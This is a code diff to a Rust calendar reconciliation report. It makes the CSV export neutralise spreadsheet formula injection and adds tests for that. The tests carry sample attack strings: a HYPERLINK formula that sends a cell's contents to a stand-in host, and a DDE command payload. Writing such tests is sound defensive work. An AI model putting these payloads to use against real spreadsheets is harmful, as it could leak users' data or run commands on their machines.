@@ -564,13 +564,20 @@ impl ReconciliationReport {
 }
 
 /// The report as CSV, one row per finding (a drift line gives one row per
-/// differing field), for spreadsheets. Quotes as RFC 4180.
+/// differing field), for spreadsheets. Quotes as RFC 4180; a cell a
+/// spreadsheet would run as a formula (titles and values come from GHL,
+/// anyone can type them) starts with `'` instead.
 pub fn to_csv(report: &ReconciliationReport) -> String {
     fn field(v: &str) -> String {
+        let v = if v.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+            std::borrow::Cow::Owned(format!("'{v}"))
+        } else {
+            std::borrow::Cow::Borrowed(v)
+        };
         if v.contains([',', '"', '\n', '\r']) {
             format!("\"{}\"", v.replace('"', "\"\""))
         } else {
-            v.to_string()
+            v.into_owned()
         }
     }
     let mut out =
@@ -1176,6 +1183,97 @@ mod tests {
             started.elapsed().as_secs_f64() * 1000.0
         );
         assert_eq!(again, d);
+    }
+
+    fn report_with(title: &str, local: &str, ghl: &str) -> ReconciliationReport {
+        let line = ReportLine {
+            id: "e1".into(),
+            calendar_id: "C1".into(),
+            start_local: "2026-12-04 09:00".into(),
+            title: title.into(),
+            status: "confirmed".into(),
+            contact_id: None,
+            via: None,
+            lost_webhook: false,
+            fixed: None,
+        };
+        let diff = ReconciliationDiff {
+            faltantes_local: vec![line],
+            desincronizadas: vec![DriftLine {
+                id: "e2".into(),
+                calendar_id: "C1".into(),
+                start_local: "2026-12-04 10:00".into(),
+                title: "Control".into(),
+                diferencias: vec![FieldDiff {
+                    campo: Campo::Title,
+                    local: Some(local.into()),
+                    ghl: Some(ghl.into()),
+                }],
+                via: None,
+                lost_webhook: false,
+                fixed: None,
+            }],
+            ..Default::default()
+        };
+        let day = NaiveDate::from_ymd_opt(2026, 12, 4).unwrap();
+        let now = Utc::now();
+        ReconciliationReport::new("L", day, (now, now), diff, 1, 1)
+    }
+
+    /// Cells of a CSV without quoted newlines (enough for these reports).
+    fn cells(csv: &str) -> Vec<Vec<String>> {
+        csv.lines()
+            .skip(1)
+            .map(|l| {
+                let mut out = vec![String::new()];
+                let mut quoted = false;
+                let mut chars = l.chars().peekable();
+                while let Some(c) = chars.next() {
+                    match c {
+                        '"' if quoted && chars.peek() == Some(&'"') => {
+                            chars.next();
+                            out.last_mut().unwrap().push('"');
+                        }
+                        '"' => quoted = !quoted,
+                        ',' if !quoted => out.push(String::new()),
+                        c => out.last_mut().unwrap().push(c),
+                    }
+                }
+                out
+            })
+            .collect()
+    }
+
+    #[test]
+    fn csv_cells_a_spreadsheet_would_run_start_with_a_quote() {
+        let link = r#"=HYPERLINK("http://x.example/?d="&A1,"ver")"#;
+        let dde = "+51 999 =cmd|' /C calc'!A0";
+        let csv = to_csv(&report_with(link, dde, "@SUM(1+1)"));
+        let rows = cells(&csv);
+        assert_eq!(rows[0][5], format!("'{link}"));
+        assert_eq!(rows[1][8], format!("'{dde}"), "a phone stays readable");
+        assert_eq!(rows[1][9], "'@SUM(1+1)");
+        for cell in rows.iter().flatten() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell:?} in {csv}"
+            );
+        }
+
+        for (raw, shown) in [
+            ("-2+3", "'-2+3"),
+            ("\tx", "'\tx"),
+            ("=1", "'=1"),
+            ("Control 15:00", "Control 15:00"),
+            ("Ana, control", "Ana, control"),
+            ("a=b", "a=b"),
+        ] {
+            assert_eq!(cells(&to_csv(&report_with(raw, "x", "y")))[0][5], shown);
+        }
+        // A carriage return is quoted as well as neutralised.
+        assert!(to_csv(&report_with("\r=1", "x", "y")).contains("\"'\r=1\""));
+        // Untouched fields keep their form.
+        assert!(csv.contains(",2026-12-04 09:00,"));
     }
 
     #[test]
